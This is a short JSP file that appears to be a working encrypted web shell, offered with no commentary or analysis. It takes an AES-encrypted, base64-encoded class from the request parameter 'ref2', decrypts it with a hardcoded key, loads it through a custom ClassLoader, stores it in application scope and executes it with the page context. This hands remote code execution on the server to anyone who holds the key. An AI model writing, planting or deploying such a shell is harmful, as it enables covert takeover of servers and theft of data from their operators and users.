<%! String xc="8708ada9f4c810a8"; String pass="ref2";
class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }
%><% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass));
javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES")); data = c.doFinal(data);
if (application.getAttribute(pass) == null) { application.setAttribute(pass, new X(this.getClass().getClassLoader()).Q(data)); }
else { Object f = ((Class) application.getAttribute(pass)).newInstance(); f.equals(pageContext); } %>
